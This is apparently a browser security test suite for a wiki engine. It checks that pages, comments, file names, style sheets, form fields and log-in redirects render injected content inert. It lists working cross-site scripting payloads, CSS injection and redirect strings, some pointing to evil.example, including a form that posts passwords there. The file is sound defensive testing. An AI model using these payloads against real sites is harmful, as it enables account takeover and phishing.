/**
 * Somebody who may write, or only link, tries to run a script in the readers' name: by titles, comments, names of users and files,
 * words to search, sources that are compared, sidebars, styles. Every page that shows one is opened, and nothing may become
 * active: no dialog, no handler, no script of theirs, no address that runs.
 */

import { beforeAll, expect, test } from 'vitest';
import { visit } from '../support/browser.ts';
import { Pusher } from '../support/pusher.ts';
import { describeInBrowser } from './in-browser.ts';
import { addAccount, logIn, PASSWORD, visitAs } from './visit-as.ts';

const ATTACKS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '[javascript:alert(1) x] [[javascript:alert(1)|x]]',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<table background="javascript:alert(1)"><tr><td onmouseover=alert(1)>x</table>',
  '<div style="background:url(javascript:alert(1))" onclick="alert(1)">x</div>',
  '<p style="color:red}</style><script>alert(1)</script>">x</p>',
  '<p style="}body{display:none}">x</p>',
  '<p style="position:fixed;inset:0;z-index:99999;background:white">cover</p>',
  '<span id="ui-search" class="ui-header">x</span>',
  '<form action="https://evil.example/"><input name="password"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '{{DISPLAYTITLE:<script>alert(1)</script>}}',
  '{{SHORTDESC:"><script>alert(1)</script>}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '== <script>alert(1)</script> ==\n== <img src=x onerror=alert(1)> ==\n== c ==',
  '[[File:x"onerror="alert(1).png|alt="><script>alert(1)</script>]]',
  '[[Category:"><script>alert(1)</script>]]',
];
/** Addresses of forms; the last do what they are asked, whatever is written. */
const FORMS = [
  'Special:Accounts',
  'Special:Tokens',
  'Special:SiteSettings',
  'Special:Rights',
  'Special:Suppress/1',
  'Special:ChangePassword',
  'Special:Upload',
  'Special:UserLogin',
  'All?action=move',
  'All?action=protect',
  'All?action=edit&section=new',
  'All?action=rollback',
  'All?action=edit',
  'Special:Preferences',
  'All?action=delete',
  'All?action=undelete',
];
/** What a reader can only send with tools: values of choices, and of fields that are not shown. A section that is none is refused. */
const FORGE = `for (const each of document.querySelectorAll('main form[method=post] :is(input:is([type=hidden], [type=radio], [type=checkbox]), option)'))
  if (!['token', 'form', 'section'].includes(each.name)) each.value = ATTACK`;
/** Titles of files; pushed with the signs escaped that not every system has in names. */
const FILE_NAMES = [
  'x"onerror="alert(1).png',
  "x'onmouseover='alert(1).py",
  'x&quot; onfocus=alert(1) autofocus.txt.bak',
  'javascript:alert(1).svg',
];
/** Other origins, as browsers read them, and scripts. */
const ELSEWHERE = [
  '//evil.example',
  'https://evil.example/',
  '/\\evil.example',
  '/\t/evil.example',
  '/.//evil.example',
  'javascript:alert(1)',
];
const escapeSign = (sign: string): string => `%${sign.charCodeAt(0).toString(16).toUpperCase()}`;
const STYLE = `} </style><script>alert(1)</script> @import "https://evil.example/a.css";
* { background: url(https://evil.example/b); background: \\75rl(https://evil.example/c) }
@font-face { font-family: x; src: url(https://evil.example/d) } body { font-family: x; color: rgb(1, 2, 3) }
p { background: image-set("https://evil.example/e" 1x) } q { content: "never closed`;
const NAME = 'Eve "onmouseover=alert(1) x=\'';

/** What is active in a document that should hold nothing active of others. */
const ACTIVE = `(() => {
  const found = [];
  for (const each of document.querySelectorAll('*')) {
    for (const { name, value } of each.attributes) {
      if (/^on/i.test(name)) found.push(each.tagName + ' ' + name);
      if (/^(?:href|src|action|formaction|xlink:href|background)$/i.test(name) && /^\\s*(?:javascript|data|vbscript):/i.test(value)) found.push(each.tagName + ' ' + value);
      if (name === 'style') found.push(each.tagName + ' style');
    }
    if (/^(?:IFRAME|OBJECT|EMBED|BASE|FRAME)$/.test(each.tagName)) found.push(each.tagName);
    if (each.tagName === 'SCRIPT' && !/^\\/assets\\/(?:page|editor)-\\w+\\.js$/.test(each.getAttribute('src') || '')) found.push('SCRIPT');
    if (each.tagName === 'META' && each.httpEquiv) found.push('META ' + each.httpEquiv);
    if (each.tagName === 'FORM' && new URL(each.getAttribute('action'), location.href).origin !== location.origin) found.push('FORM ' + each.getAttribute('action'));
  }
  if (document.querySelectorAll('#ui-search').length !== 1) found.push('two fields of search');
  const field = document.getElementById('ui-search').getBoundingClientRect();
  const top = document.elementFromPoint(field.x + field.width / 2, field.y + field.height / 2);
  if (!top || top.id !== 'ui-search') found.push('the search is covered');
  if (getComputedStyle(document.body).display === 'none') found.push('hidden');
  return found;
})()`;

describeInBrowser('attacks on readers', {}, (here) => {
  const ids: number[] = [];

  beforeAll(async () => {
    const editor = await here.server.editor(NAME.slice(0, 60), 'eve@example.org');
    for (const [place, source] of ATTACKS.entries()) {
      const made = await editor.post<{ latest: { id: number } }>('/page', {
        title: `Attack ${place}`,
        source,
        comment: source.slice(0, 400),
      });
      expect(made.status, made.text).toBe(201);
      ids.push(made.body.latest.id);
    }
    const all = ATTACKS.join('\n\n');
    await editor.post('/page', {
      title: 'MediaWiki:Sidebar',
      source: `* x\n${ATTACKS.map((each) => `** ${each}|${each}`).join('\n')}`,
      comment: 'c',
    });
    await editor.post('/page', { title: 'All', source: all, comment: all.slice(0, 400) });
    const { body } = await editor.get<{ latest: { id: number } }>('/page/All');
    await editor.put('/page/All', {
      source: `${all.replaceAll('alert(1)', 'alert(2)')}`,
      comment: 'c',
      latest: { id: body.latest.id },
    });
  });

  test('in names of files, in files, in the style sheet and the words that a wiki brings', async () => {
    const admin = await Pusher.of(
      here.server,
      await here.server.token('Root', 'root@example.org', ['--scope', 'admin']),
    );
    const files = Object.fromEntries(
      FILE_NAMES.map((name) => [`Images/${name.replace(/[":]/g, escapeSign)}`, ATTACKS.join('\n')]),
    );
    const words = { recentChanges: ATTACKS[0], tools: ATTACKS[1], bytes: ATTACKS[2], search: ATTACKS[3] };
    const messages = { '.stemma/style.css': STYLE, '.stemma/messages/en.json': JSON.stringify(words) };
    const pushed = await admin.push(await admin.commit({ ...files, ...messages }));
    expect(pushed.code, pushed.stderr).toBe(0);
    const pages = FILE_NAMES.map((name) => `/wiki/File:Images/${encodeURIComponent(name)}`);
    for (const each of pages) expect((await fetch(here.server.origin + each)).status, each).toBe(200);
    await open(['/wiki/Main_Page', '/wiki/Special:ListFiles', ...pages, '/wiki/Special:Preferences']);
    const { page, context } = await visit(here.browser);
    await page.goto(`${here.server.origin}/wiki/Main_Page`);
    expect(await page.evaluate('getComputedStyle(document.body).color')).toBe('rgb(1, 2, 3)');
    await context.close();
  });

  async function open(paths: readonly string[]): Promise<void> {
    const { page, context, dialogs, complaints } = await visit(here.browser);
    for (const path of paths) {
      await page.goto(here.server.origin + path);
      expect(await page.evaluate(ACTIVE), path).toEqual([]);
      expect(new URL(page.url()).origin).toBe(here.server.origin);
    }
    expect(dialogs).toEqual([]);
    expect(complaints.filter((each) => !/status of 40\d/.test(each))).toEqual([]);
    await context.close();
  }

  test('in sources and comments', () => open(ATTACKS.flatMap((_, place) => [`/wiki/Attack_${place}`])));

  test('in what is compared, listed, and told of authors', () =>
    open([
      '/wiki/All',
      '/wiki/All?action=history',
      '/wiki/All?action=blame',
      '/wiki/All?action=info',
      '/wiki/All?diff=cur&oldid=prev',
      `/wiki/All?diff=prev&oldid=${(ids.at(-1) as number) + 3}&diff-type=rendered`,
      `/wiki/All?diff=prev&oldid=${(ids.at(-1) as number) + 3}`,
      '/wiki/Special:RecentChanges',
      '/wiki/Special:NewPages',
      `/wiki/Special:Contributions/${encodeURIComponent(NAME)}`,
      '/wiki/MediaWiki:Sidebar',
    ]));

  test('in words to search, titles and parameters of addresses', () =>
    open(
      ATTACKS.flatMap((attack) => {
        const written = encodeURIComponent(attack.slice(0, 200));
        return [
          `/wiki/Special:Search?search=${written}`,
          `/wiki/All?marked=${written}`,
          `/wiki/${written}`,
          `/wiki/Special:Contributions?user=${written}`,
          `/wiki/Special:AllPages?from=${written}&folder=${written}`,
          `/wiki/Special:UserLogin?returnto=${written}`,
        ];
      }),
    ));

  test('in every field of every form, as it comes back, and where what it did is shown', async () => {
    await addAccount(here.server, 'Ada', 'admin');
    const { page, context, dialogs, complaints } = await visitAs(here, 'Ada');
    const attack = `"'><img src=x onerror=alert(1)></textarea></title><script>alert(1)</script>`;
    for (const path of FORMS) {
      for (const isForged of [true, false]) {
        await page.goto(`${here.server.origin}/wiki/${path}`);
        const fields = page.locator(
          'main form[method=post] :is(input:is([type=text], [type=email], [type=number], [type=password], :not([type])), textarea):visible',
        );
        for (const field of await fields.all()) {
          const kind = await field.getAttribute('type');
          await field.fill(kind === 'number' ? '7' : kind === 'email' ? `"<b>"@example.org` : attack);
        }
        // A browser would refuse some of this before it is sent: an attacker's would not.
        await page.evaluate(`for (const form of document.forms) form.noValidate = true`);
        if (isForged) await page.evaluate(FORGE.replace('ATTACK', JSON.stringify(attack)));
        const button = page.locator('main form[method=post] button[type=submit]').first();
        // What was deleted cannot be deleted again.
        if (!isForged && (await button.count()) === 0) continue;
        await Promise.all([page.waitForEvent('load'), button.click()]);
        // A save leads to its section.
        await page.evaluate('scrollTo(0, 0)');
        expect(await page.evaluate(ACTIVE), path).toEqual([]);
      }
    }
    expect(dialogs).toEqual([]);
    expect(complaints.filter((each) => !/status of 40\d/.test(each))).toEqual([]);
    await context.close();
    await open(['/wiki/Special:RecentChanges', '/wiki/Special:Log', '/wiki/All?action=history']);
  });

  test('by framing a page', async () => {
    const { headers } = await fetch(`${here.server.origin}/wiki/Main_Page`);
    expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
    expect(headers.get('content-security-policy')).not.toContain('unsafe');
  });

  test('by an address that leads elsewhere after the log-in', async () => {
    await addAccount(here.server, 'Lora');
    const { origin } = here.server;
    for (const to of ELSEWHERE) {
      const form = await fetch(`${origin}/wiki/Special:UserLogin?returnto=${encodeURIComponent(to)}`);
      expect(await form.text()).toContain('name="returnto" value="/"');
    }
    const visitor = await visit(here.browser, { withoutScript: true });
    const { page, context } = visitor;
    // What the form says is not what is sent.
    for (const to of ELSEWHERE.slice(0, 3)) {
      await page.goto(`${origin}/wiki/Special:UserLogin`);
      await page.evaluate(`document.querySelector('main [name=returnto]').value = ${JSON.stringify(to)}`);
      await page.fill('main [name=name]', 'Lora');
      await page.fill('main [name=password]', PASSWORD);
      await page.click('main button[type=submit]');
      expect(page.url(), to).toBe(`${origin}/wiki/Main_Page`);
      expect(await page.textContent('.ui-account')).toContain('Log out');
    }
    await logIn(visitor, origin, 'Lora', '/wiki/All?action=history&limit=50');
    expect(page.url()).toBe(`${origin}/wiki/All?action=history&limit=50`);
    await context.close();
  });
});
